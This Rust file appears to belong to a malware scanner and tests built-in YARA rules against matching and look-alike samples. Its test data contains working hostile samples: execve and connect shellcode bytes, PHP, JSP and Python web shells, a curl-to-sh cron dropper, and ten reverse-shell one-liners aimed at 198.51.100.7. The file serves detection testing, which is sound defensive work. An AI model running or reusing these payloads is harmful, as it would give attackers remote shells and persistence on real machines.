//! Our own rules. Each has a text that it finds and one that is like it and must stay silent.

/// The files of our rules: name and text.
pub(super) const FILES: &[(&str, &str)] = &[
    ("shellcode.yar", include_str!("rules/shellcode.yar")),
    ("miners.yar", include_str!("rules/miners.yar")),
    ("reverse_shells.yar", include_str!("rules/reverse_shells.yar")),
    ("web_shells.yar", include_str!("rules/web_shells.yar")),
    ("implants.yar", include_str!("rules/implants.yar")),
];

#[cfg(all(test, feature = "yara"))]
mod tests {
    use std::borrow::Cow;
    use std::collections::BTreeSet;
    use std::ops::Range;

    use super::super::{Loader, Regions, Rules, Scanned, Variables};

    fn rules() -> Rules {
        let mut loader = Loader::new();
        loader.builtin();
        let done = loader.finish();
        assert_eq!(done.problems, Vec::<String>::new());
        done.rules.unwrap()
    }

    #[derive(Debug)]
    struct One(Vec<u8>, Vec<Range<u64>>);

    impl Regions for One {
        fn ranges(&self) -> &[Range<u64>] {
            &self.1
        }

        fn bytes(&self, _: usize) -> Option<Cow<'_, [u8]>> {
            Some(Cow::Borrowed(&self.0))
        }
    }

    /// The rules that match some bytes as a file or as memory.
    fn found(rules: &Rules, bytes: &[u8]) -> BTreeSet<String> {
        let range = 0x7000..0x7000 + bytes.len() as u64;
        let region = One(bytes.to_vec(), vec![range]);
        let file = rules.scan(Scanned::Whole(bytes), &Variables { kind: "file", ..Variables::default() });
        let memory = rules.scan(Scanned::Memory(&region), &Variables { kind: "process", ..Variables::default() });
        assert!(file.stopped.is_none() && memory.stopped.is_none());
        let all = file.matches.iter().chain(&memory.matches);
        all.map(|one| rules.infos()[one.rule].name.clone()).collect()
    }

    fn hex(text: &str) -> Vec<u8> {
        let text: String = text.split_whitespace().collect();
        data_encoding::HEXLOWER.decode(text.as_bytes()).unwrap()
    }

    /// A shared object with some names in it.
    fn library(names: &[&str]) -> Vec<u8> {
        let mut bytes = hex("7f454c46 02010100 0000000000000000 0300 3e00");
        bytes.resize(64, 0);
        bytes.push(0);
        for name in names {
            bytes.extend_from_slice(name.as_bytes());
            bytes.push(0);
        }
        bytes
    }

    /// For each rule: what it finds, and what is like it and no finding.
    #[expect(clippy::too_many_lines, reason = "it is a table")]
    fn cases() -> Vec<(&'static str, Vec<u8>, Vec<u8>)> {
        let wallet = format!("4A{}", "8Bnt5Ze9".repeat(12).get(..93).unwrap());
        let text = |text: &str| text.as_bytes().to_vec();
        vec![
            (
                "shellcode_execve_x64",
                hex("90 48 31 f6 56 48 bf 2f 62 69 6e 2f 2f 73 68 57 54 5f 6a 3b 58 99 0f 05"),
                // The number and the call, but the text is elsewhere; and the text without a call.
                [
                    hex("b8 3b 00 00 00 0f 05 c3"),
                    vec![0x90; 64],
                    b"/bin/sh\0".to_vec(),
                    hex("48 bf 2f 62 69 6e 2f 2f 73 68 c3"),
                ]
                .concat(),
            ),
            (
                "shellcode_connect_x64",
                hex("6a 29 58 99 6a 02 5f 6a 01 5e 0f 05 48 97 48 b9 02 00 11 5c c6 33 64 07 51 48 89 e6"),
                hex("b8 29 00 00 00 0f 05 48 3d 01 f0 ff ff 73 01 c3 48 b9 01 00 11 5c c6 33 64 07"),
            ),
            (
                "shellcode_stage_x64",
                hex("6a 09 58 99 b6 10 48 89 d6 4d 31 c9 6a 22 41 5a 6a 07 5a 0f 05 48 85 c0"),
                hex("6a 07 5a 0f 05 c3 41 b2 21 c3"),
            ),
            (
                "shellcode_execve_x86",
                hex("31 c0 50 68 2f 2f 73 68 68 2f 62 69 6e 89 e3 50 53 89 e1 b0 0b cd 80"),
                hex("68 2f 2f 73 68 68 2f 62 69 6e 89 e3 c3 b0 01 cd 80"),
            ),
            (
                "shellcode_execve_a64",
                hex(
                    "e1 45 8c d2 21 cd ad f2 e1 65 ce f2 01 0d e0 f2 e1 8f 1f f8 e1 03 1f aa e2 03 1f aa a8 1b 80 d2 01 00 00 d4",
                ),
                hex("a8 1b 80 d2 01 00 00 d4 1f 04 40 b1 c0 03 5f d6 00 00 00 00"),
            ),
            (
                "shellcode_connect_a64",
                hex("c8 18 80 d2 01 00 00 d4 e3 03 00 aa 41 03 00 10 02 02 80 d2 68 19 80 d2 01 00 00 d4"),
                [hex("c8 18 80 d2 01 00 00 d4 c0 03 5f d6"), vec![0; 64], hex("68 19 80 d2 01 00 00 d4")].concat(),
            ),
            (
                "loader_stub_dlopen",
                [hex("48 b8 00 10 20 30 40 7f 00 00 ff d0 cc"), b"/dev/shm/x.so\0".to_vec()].concat(),
                [hex("48 b8 00 10 20 30 40 7f 00 00 ff d0 cc"), vec![0; 600], b"/dev/shm/x.so\0".to_vec()].concat(),
            ),
            ("instrumentation_frida", text("frida:rpc\0gum-js-loop\0"), text("see frida:rpc in the handbook")),
            (
                "miner_xmrig_config",
                text(r#"{"cpu":{"huge-pages":true},"donate-level": 1,"pools":[{"rig-id":null,"nicehash":false}]}"#),
                text(r#"{"memory":{"huge-pages":true},"keepalive":30,"randomx":false}"#),
            ),
            (
                "miner_stratum_session",
                text(r#"{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"x","pass":"x","agent":"a/1"}}"#),
                text(r#"{"id":1,"jsonrpc":"2.0","method":"login","params":{"user":"ann"}}"#),
            ),
            (
                "miner_monero_wallet",
                text(&format!(r#"{{"url":"pool:3333","user":"{wallet}"}}"#)),
                text(&format!(r#"{{"hash":"{wallet}"}}"#)),
            ),
            (
                "reverse_shell_command",
                text("bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'"),
                text(
                    "echo ok > /dev/tcp/localhost/80; nc -zv db 5432; /bin/sh -c 'exec gunicorn'; socat tcp-listen:80 tcp:web:80; exec 3<>/dev/tcp/10.0.0.2/9000; echo -e 'GET /health' >&3; timeout 8 cat <&3 | grep -q UP; exec 6<>/dev/tcp/db/6379; read -r -t 8 -u 6 answer",
                ),
            ),
            (
                "reverse_shell_encoded",
                data_encoding::BASE64.encode(b"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1").into_bytes(),
                data_encoding::BASE64.encode(b"echo hello > /dev/null; sleep 3; exit 0").into_bytes(),
            ),
            (
                "web_shell_php",
                text("<?php if(isset($_POST['c'])){ @eval(base64_decode($_POST['c'])); } ?>"),
                text(
                    "<?php $id = (int)$_GET['id']; $out = shell_exec('convert ' . escapeshellarg($file)); echo system('uptime');",
                ),
            ),
            (
                "web_shell_php_packed",
                text("<?php eval(gzinflate(base64_decode('80jNyclXyFTPVUhJTc5PSU1RKMkvVgQA')));"),
                text("<?php $data = gzinflate(base64_decode($row['blob'])); return unserialize($data);"),
            ),
            (
                "web_shell_jsp",
                text("<% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>"),
                text("<% String name = request.getParameter(\"name\"); out.println(esc(name)); %>"),
            ),
            (
                "web_shell_script",
                text("@app.route('/x')\ndef x():\n    return os.popen(request.args.get('c')).read()\n"),
                text(
                    "@app.route('/x')\ndef x():\n    q = request.args.get('q')\n    return os.popen('uptime').read()\n",
                ),
            ),
            (
                "c2_sliver",
                text("*sliverpb.Envelope\0github.com/bishopfox/sliver/implant"),
                text("import sliverpb \"github.com/x/y\" // sliverpb. is generated"),
            ),
            (
                "c2_meterpreter",
                text("core_loadlib\0core_machine_id\0stdapi_fs_ls\0"),
                text("the commands core_loadlib and stdapi_fs_ls"),
            ),
            ("c2_agents", text("github.com/Ne0nd0g/merlin-agent/v2/core"), text("github.com/merlin/x pupyimporter")),
            (
                "tunnel_tool",
                text("github.com/jpillora/chisel/client.(*Client).Run"),
                text("chisel and gs-netcat are tools"),
            ),
            (
                "preload_rootkit",
                library(&["readdir64", "readdir", "dlsym", "libprocesshider.so", "strcmp"]),
                library(&["readdir64", "readdir", "fopen64", "lstat", "dlsym", "libfakeroot.so"]),
            ),
            (
                "bpf_backdoor",
                text("/var/run/haldrund.pid\0/dev/shm/kdmtmpflush\0"),
                text("avahi-daemon: chroot helper\0qmgr -l -t fifo -u\0pickup -l -t fifo -u\0"),
            ),
            (
                "botnet_mirai",
                text("/dev/watchdog\0/dev/misc/watchdog\0/bin/busybox KUROI\0TSource Engine Query\0"),
                text("/bin/busybox sh -c ls\0BusyBox v1.36: applet not found\0/dev/watchdog"),
            ),
            (
                "kinsing_like_script",
                text("pkill -f kdevtmpfsi\nchattr -i /etc/crontab\nsetenforce 0\n"),
                text("setenforce 0\niptables -F\nufw disable\npkill -f gunicorn\n"),
            ),
            (
                "cron_dropper",
                text("*/5 * * * * root curl -fsSL http://198.51.100.7/a.sh | sh\n"),
                text("*/5 * * * * root curl -fsS https://hc.example.org/ping > /dev/null\n"),
            ),
            (
                "history_wipe",
                text("unset HISTFILE; export HISTSIZE=0\n"),
                text("HISTSIZE=1000\nhistory -c clears the list\n"),
            ),
            (
                "docker_api_privileged",
                text("POST /v1.41/containers/create HTTP/1.1\r\n\r\n{\"HostConfig\":{\"Privileged\":true}}"),
                text(
                    "POST /v1.41/containers/create HTTP/1.1\r\n\r\n{\"HostConfig\":{\"Privileged\":false,\"Binds\":[\"/data:/data\"]}}",
                ),
            ),
            (
                "kernel_exploit",
                text("prepare_kernel_cred\0commit_creds\0/proc/kallsyms\0"),
                text("commit_creds is called by /proc/kallsyms readers"),
            ),
            (
                "packed_upx",
                text("$Info: This file is packed with the UPX executable packer http://upx.sf.net $"),
                text("UPX! is a packer for executables"),
            ),
        ]
    }

    #[test]
    fn each_rule_finds_what_it_is_for_and_not_what_is_like_it() {
        let rules = rules();
        let cases = cases();
        for (rule, positive, negative) in &cases {
            assert!(found(&rules, positive).contains(*rule), "{rule} misses {}", positive.escape_ascii());
            let wrong = found(&rules, negative);
            assert!(wrong.is_empty(), "{wrong:?} in {}", negative.escape_ascii());
        }
        let tested: BTreeSet<&str> = cases.iter().map(|(rule, _, _)| *rule).collect();
        let all: BTreeSet<&str> = rules.infos().iter().map(|info| info.name.as_str()).collect();
        assert_eq!(all, tested, "a rule has no test, or a test has no rule");
    }

    #[test]
    fn each_rule_says_what_it_finds_and_how_bad_that_is() {
        for rule in rules().infos() {
            assert!(rule.text("description").is_some() && rule.text("category").is_some(), "{}", rule.name);
            assert!(rule.severity().is_some() && rule.is_builtin, "{}", rule.name);
        }
    }

    #[test]
    fn each_command_for_a_shell_elsewhere_is_found() {
        let rules = rules();
        for line in [
            "exec 5<>/dev/tcp/198.51.100.7/443; cat <&5 | while read line; do $line 2>&5 >&5; done",
            "0<&196;exec 196<>/dev/tcp/198.51.100.7/443; sh <&196 >&196 2>&196",
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
            "perl -e 'use Socket;$i=\"198.51.100.7\";socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\");'",
            "ruby -rsocket -e'f=TCPSocket.open(\"198.51.100.7\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d\",f,f)'",
            "php -r '$s=fsockopen(\"198.51.100.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
            "nc 198.51.100.7 4444 -e /bin/sh",
            "rm -f /tmp/f; mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f",
            "socat tcp-connect:198.51.100.7:4444 exec:'bash -li',pty,stderr",
            "awk 'BEGIN{s=\"/inet/tcp/0/198.51.100.7/4444\";while(1){s |& getline c}}'",
        ] {
            assert!(found(&rules, line.as_bytes()).contains("reverse_shell_command"), "{line}");
        }
    }

    #[test]
    fn our_own_rules_load_in_any_order_with_others() {
        let folder = tempfile::tempdir().unwrap();
        std::fs::write(folder.path().join("own.yar"), "rule packed_upx { condition: true }").unwrap();
        let mut loader = Loader::new();
        loader.path(folder.path());
        loader.builtin();
        let done = loader.finish();
        assert_eq!(done.problems, Vec::<String>::new());
        let rules = done.rules.unwrap();
        assert!(rules.has(true) && rules.has(false));
        assert_eq!(rules.infos().iter().filter(|rule| rule.name == "packed_upx").count(), 2);
    }
}
